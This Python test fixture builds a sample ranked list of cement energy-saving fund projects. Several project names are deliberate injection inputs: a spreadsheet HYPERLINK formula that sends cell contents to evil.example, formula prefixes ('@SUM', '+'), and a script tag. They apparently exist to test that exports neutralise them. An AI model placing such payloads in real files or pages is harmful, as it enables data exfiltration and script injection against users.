"""A small ranked list made by hand, used by the tests of this folder."""

import datetime as dt
from dataclasses import replace
from decimal import Decimal
from typing import Any

from reserve.exchange.ranked_list import ListCap, ListCitation, ListCriterion, ListGate, ListReason, ListRow, RankedListData, RowStatus
from reserve.vocabulary.language import Bilingual

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CRITERIA = (
    ListCriterion("saving", Bilingual("年节能量", "Energy saved"), Decimal(25)),
    ListCriterion("air", Bilingual("大气环境", "Air"), Decimal(20)),
)
CHANGXING = Bilingual("长兴县", "Changxing County")
HUZHOU = Bilingual("湖州市", "Huzhou City")


CAPS = (
    ListCap(Bilingual("申请资金", "Requested"), 500_000_001, binding=False),
    ListCap(Bilingual("节能量奖补", "Per tce"), 450_000_061, binding=True, citation="house"),
)
LIFT = (Bilingual("节能量再增 300 tce/年", "300 tce/yr more"),)
GROWTH = ListGate(allowed=False, reason="GROWTH", message=Bilingual("改造后产能高于备案产能", "Capacity grows"), citation="二(二)")


def row(place: int | None, name: str, points: tuple[int, int], offer: int, status: RowStatus = "funded", **more: Any) -> ListRow:
    """A row whose reasons add up."""
    made = ListRow(
        place=place,
        tier=1,
        status=status,
        project_code=f"3305-2024-{place or 99:05d}",
        name=name,
        enterprise="青峰水泥",
        unit_name=CHANGXING,
        county_name=CHANGXING,
        city_name=HUZHOU,
        points_micro=sum(points),
        reasons=tuple(
            ListReason(c.code, c.label, "9,000", "tce/yr", 80_000_000, c.weight, p, "energy_carriers", "浙经信材料〔2023〕83号", "house")
            for c, p in zip(CRITERIA, points, strict=True)
        ),
        saving_tce_micro=9_000_123_456,
        unit_energy_before_micro=108_049_200,
        unit_energy_after_micro=100_000_000,
        air_class=Bilingual("A级", "Class A"),
        requested_fen=500_000_001,
        entitled_fen=450_000_061,
        offer_fen=offer,
        caps=CAPS,
        gates=(ListGate(allowed=True, reason="CREDIT", message=Bilingual("通过", "Passed")),),
    )
    return replace(made, **more)


def listing(**more: Any) -> RankedListData:
    """Two funded projects, one in reserve, one stopped by a gate."""
    rows = (
        row(1, ATTACK, (20_123_456, 17_000_001), 450_000_061),
        row(2, "@SUM(A1) 二号线", (15_000_000, 10_000_000), 100_000_000, "partial", tie="更大的节能量"),
        row(3, "三号线<script>alert(1)</script>", (1, 2), 0, "reserve", lift=LIFT, saving_tce_micro=None),
        row(None, "+四号线", (0, 0), 0, "gated_out", gates=(GROWTH,)),
    )
    made = RankedListData(
        batch_code="ZJ-2024-01",
        programme_title=Bilingual("水泥行业节能降碳专项资金", "Cement special fund"),
        basis="浙财建〔2024〕1号",
        budget_fen=600_000_000,
        spent_fen=550_000_061,
        as_of=dt.date(2024, 9, 2),
        generated_on=dt.date(2024, 9, 2),
        convention=Bilingual("电力按当量值 0.1229 kgce/kWh", "Electricity at 0.1229 kgce/kWh"),
        criteria=CRITERIA,
        rows=rows,
        line_after_place=2,
        digest="1" * 64,
        audit_head="2" * 64,
        seed="ab" * 16,
        citations=(ListCitation("基准", "100 kgce/t", "unverified", "100"),),
        warnings=(Bilingual("本批次没有专家评审", "No expert review in this batch"),),
        demo=True,
    )
    return replace(made, **more)
